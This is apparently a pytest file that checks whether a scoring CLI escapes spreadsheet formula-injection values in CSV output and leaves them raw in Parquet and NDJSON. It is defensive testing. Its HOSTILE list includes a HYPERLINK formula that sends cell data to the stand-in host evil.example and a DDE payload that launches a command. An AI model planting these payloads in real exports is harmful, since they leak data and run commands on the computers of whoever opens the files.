"""Spreadsheet formula injection: hostile values are neutralised in CSV, untouched elsewhere."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
import pytest

from tests.conftest import SAMPLE_AS_OF, run_cli

CORPUS = Path(__file__).resolve().parent / "bad_inputs"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _score(tmp_path: Path, out: str, *extra: str) -> Path:
    path = tmp_path / out
    run_cli(["score", CORPUS / "formula_injection.csv", "-r", CORPUS / "base_ruleset.yaml", "--as-of", SAMPLE_AS_OF,
             "-o", path, "-q", *extra])
    return path


def _csv_column(path: Path, name: str) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [row[name] for row in csv.DictReader(fh)]


def test_csv_output_neutralises_formulas(tmp_path: Path) -> None:
    out = _score(tmp_path, "scored.csv", "-k", "Email")
    assert _csv_column(out, "lead_id") == ["'" + v for v in HOSTILE]
    assert _csv_column(out, "Email") == ["a@acme.com", "b@acme.com", "c@acme.com", "d@acme.com"]


def test_no_escape_formulas_opts_out(tmp_path: Path) -> None:
    out = _score(tmp_path, "scored.csv", "--no-escape-formulas")
    assert _csv_column(out, "lead_id") == HOSTILE


@pytest.mark.parametrize("name", ["scored.parquet", "scored.ndjson"])
def test_parquet_and_ndjson_keep_values_untouched(tmp_path: Path, name: str) -> None:
    out = _score(tmp_path, name)
    frame = pl.read_parquet(out) if name.endswith("parquet") else pl.read_ndjson(out)
    assert frame["lead_id"].to_list() == HOSTILE


def test_rejects_file_neutralises_raw_values(tmp_path: Path) -> None:
    data = CORPUS / "formula_injection.csv"
    rows = data.read_text(encoding="utf-8").splitlines()
    dup = tmp_path / "dup.csv"
    dup.write_text("\n".join(rows + [rows[2]]) + "\n", encoding="utf-8")  # the '+cmd' row twice
    out = tmp_path / "scored.csv"
    run_cli(["score", dup, "-r", CORPUS / "base_ruleset.yaml", "--as-of", SAMPLE_AS_OF, "-o", out, "-q"])
    rejected = list(csv.DictReader(open(tmp_path / "scored.rejects.csv", newline="", encoding="utf-8")))
    assert [r["Lead ID"] for r in rejected] == ["'+cmd|' /C calc'!A0"]
    assert rejected[0]["reason"].startswith("duplicate lead id: kept lead +cmd|' /C calc'!A0 (row 2")


def test_summary_json_is_not_escaped(tmp_path: Path) -> None:
    out = tmp_path / "scored.csv"
    run_cli(["score", CORPUS / "formula_injection.csv", "-r", CORPUS / "base_ruleset.yaml", "--as-of", SAMPLE_AS_OF,
             "-o", out, "-q", "--summary-json", tmp_path / "s.json"])
    assert json.loads((tmp_path / "s.json").read_text())["files"][0]["file"] == str(CORPUS / "formula_injection.csv")
